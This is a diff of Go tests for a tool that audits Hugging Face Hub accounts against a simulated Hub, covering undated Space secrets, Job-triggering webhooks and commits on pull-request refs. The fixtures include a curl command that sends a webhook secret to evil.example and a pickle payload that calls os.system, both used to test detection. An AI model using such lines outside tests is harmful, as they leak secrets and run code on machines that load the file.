@@ -804,3 +804,150 @@ func TestRunRepoErrors(t *testing.T) {
 		}
 	}
 }
+
+// TestUndatedSpaceSettings: the Hub sends no updatedAt for a Space secret
+// or variable never updated; the audit cannot place it outside the window,
+// so it reports it (a notch lower) instead of dropping it. A dated one
+// from before the window stays quiet.
+func TestUndatedSpaceSettings(t *testing.T) {
+	ctx := context.Background()
+	old := time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)
+	c, tok := simRepos(t, hubsim.Repo{ID: "alice/space", Type: "space", CreatedAt: old, Commits: []hubsim.Commit{
+		{Title: "Initial commit", Date: old, Files: map[string]*hubsim.File{"app.py": {Text: "print('hi')\n"}}},
+	}, Secrets: []hubsim.SpaceSetting{{Key: "PLANTED", Value: "x"}, {Key: "OLD", Value: "y", UpdatedAt: old}},
+		Variables: []hubsim.SpaceSetting{{Key: "ENDPOINT", Value: "https://example.com"}}})
+	list, err := c.SpaceSecrets(ctx, tok, "alice/space")
+	if err != nil || len(list) != 2 {
+		t.Fatalf("secrets %+v, %v", list, err)
+	}
+	for _, s := range list {
+		if (s.Key == "PLANTED") != s.UpdatedAt.IsZero() {
+			t.Errorf("secret %s updatedAt %v", s.Key, s.UpdatedAt)
+		}
+	}
+	r, err := Run(ctx, Options{Client: c, Token: tok, Since: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC),
+		Repos: []Repo{{hub.RepoSpace, "alice/space"}}, Inspect: noInspect})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, tc := range []struct{ kind, key, sev string }{
+		{KindSecretAdded, "PLANTED", Medium},
+		{KindVariableAdded, "ENDPOINT", Low},
+	} {
+		f := find(r, "space/alice/space", tc.kind)
+		if f == nil || f.Path != tc.key || f.Severity != tc.sev || f.Time != nil || !strings.Contains(f.Evidence, "unknown") {
+			t.Errorf("%s %s: %+v", tc.kind, tc.key, f)
+		}
+	}
+	for _, f := range r.Findings {
+		if f.Path == "OLD" {
+			t.Errorf("a secret dated before the window reported: %+v", f)
+		}
+	}
+}
+
+// TestJobWebhook: a webhook that triggers a Job has a job and no url
+// (huggingface_hub WebhookInfo); the audit says what it runs, never its
+// command or values, one notch above a URL webhook, whether it came from
+// the scenario or was created through the API with jobSourceId.
+func TestJobWebhook(t *testing.T) {
+	ctx := context.Background()
+	tok := fakeToken(5)
+	srv := hubsim.New(&hubsim.Scenario{
+		Users:  []hubsim.User{{Name: "alice"}},
+		Tokens: []hubsim.Token{{Token: tok, User: "alice", Kind: hubsim.KindClassic, Role: "write"}},
+		Jobs: []hubsim.Job{{ID: "job-exfil", Owner: "alice", JobSpec: hubsim.JobSpec{DockerImage: "python:3.12",
+			Command: []string{"bash", "-c", "curl https://evil.example/?t=$WEBHOOK_SECRET"}, Flavor: "cpu-basic"}}},
+		Webhooks: []hubsim.Webhook{{Owner: "alice", Watched: []hubsim.WatchedItem{{Type: "user", Name: "alice"}},
+			Job: &hubsim.JobSpec{SpaceID: "alice/runner", Environment: map[string]string{"TARGET": "sekrit-value"}}}},
+	}, hubsim.Options{RateLimit: -1})
+	url, stop, err := srv.Start("127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(stop)
+	c, err := hub.New(hub.Options{Endpoint: url, RatePerSecond: -1})
+	if err != nil {
+		t.Fatal(err)
+	}
+	e := &env{t: t, url: url, c: c, token: tok}
+	e.call(http.MethodPost, "/api/settings/webhooks", map[string]any{"jobSourceId": "job-exfil",
+		"watched": []map[string]string{{"type": "user", "name": "alice"}}, "domains": []string{"repo"}})
+	hooks, err := c.Webhooks(ctx, tok)
+	if err != nil || len(hooks) != 2 {
+		t.Fatalf("webhooks %+v, %v", hooks, err)
+	}
+	for _, w := range hooks {
+		if w.URL != "" || w.Job == nil {
+			t.Fatalf("job webhook decoded as %+v", w)
+		}
+	}
+	r, err := Run(ctx, Options{Client: c, Token: tok, Since: time.Now().Add(-time.Hour), Owner: "alice", Inspect: noInspect})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var evs []string
+	for _, f := range r.Findings {
+		if f.Kind != KindWebhook {
+			continue
+		}
+		evs = append(evs, f.Evidence)
+		if f.Severity != High || strings.Contains(f.Evidence, "unparsable") || !strings.Contains(f.Evidence, "runs a Job") ||
+			strings.Contains(f.Evidence, "evil.example") || strings.Contains(f.Evidence, "sekrit") {
+			t.Errorf("job webhook finding %+v", f)
+		}
+	}
+	all := strings.Join(evs, "\n")
+	if len(evs) != 2 || !strings.Contains(all, "image python:3.12, flavor cpu-basic, a command of 3 words") ||
+		!strings.Contains(all, "the image of Space alice/runner, environment TARGET") {
+		t.Errorf("job webhook findings:\n%s", all)
+	}
+}
+
+// TestPullRequestRefCommits: a write token pushes to an open pull
+// request's ref (refs/pr/{num}), which no branch holds; the audit lists
+// the ref (include_prs) and reports the commit and the model file it
+// changed there. A pull request nobody pushed to adds nothing.
+func TestPullRequestRefCommits(t *testing.T) {
+	ctx := context.Background()
+	old := time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)
+	c, tok := simRepos(t, hubsim.Repo{ID: "alice/model", CreatedAt: old, Commits: []hubsim.Commit{
+		{Title: "Initial commit", Date: old, Files: map[string]*hubsim.File{"README.md": {Text: "# m\n"}}},
+	}, Discussions: []hubsim.Discussion{
+		{Title: "Improve card", Author: "alice", IsPullRequest: true, CreatedAt: old},
+		{Title: "Untouched PR", Author: "alice", IsPullRequest: true, CreatedAt: old},
+	}})
+	since := time.Now().Add(-time.Hour)
+	pickle := []byte("\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.")
+	res, err := c.Commit(ctx, tok, hub.RepoModel, "alice/model", "refs/pr/1", "Update weights", map[string][]byte{"pytorch_model.bin": pickle}, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	refs, err := c.Refs(ctx, tok, hub.RepoModel, "alice/model", true)
+	if err != nil || len(refs.PullRequests) != 2 || refs.PullRequests[0].Ref != "refs/pr/1" || refs.PullRequests[0].TargetCommit != res.CommitOID {
+		t.Fatalf("refs %+v, %v", refs, err)
+	}
+	if main := refs.Branches[0].TargetCommit; main == res.CommitOID {
+		t.Fatal("the push to refs/pr/1 moved main")
+	}
+	var inspected []string
+	inspect := func(_ context.Context, p string, _ io.ReaderAt, _ int64) ([]artifact.Finding, error) {
+		inspected = append(inspected, p)
+		return []artifact.Finding{{Kind: artifact.KindUnsafePickle, Severity: Critical, Path: p}}, nil
+	}
+	r, err := Run(ctx, Options{Client: c, Token: tok, Since: since, Owner: "alice", Repos: []Repo{{hub.RepoModel, "alice/model"}}, Inspect: inspect})
+	if err != nil {
+		t.Fatal(err)
+	}
+	f := find(r, "model/alice/model", KindCommitInWindow)
+	if f == nil || f.Commit != res.CommitOID || f.Ref != "refs/pr/1" || !strings.Contains(f.Evidence, "on refs/pr/1") {
+		t.Errorf("commit on the PR ref: %+v", f)
+	}
+	if p := find(r, "model/alice/model", artifact.KindUnsafePickle); p == nil || p.Ref != "refs/pr/1" || p.Path != "pytorch_model.bin" ||
+		!slices.Equal(inspected, []string{"pytorch_model.bin"}) {
+		t.Errorf("pickle on the PR ref: %+v (inspected %v)", p, inspected)
+	}
+	if n := len(kinds(r)["model/alice/model"]); n != 2 {
+		t.Errorf("findings %v", kinds(r))
+	}
+}
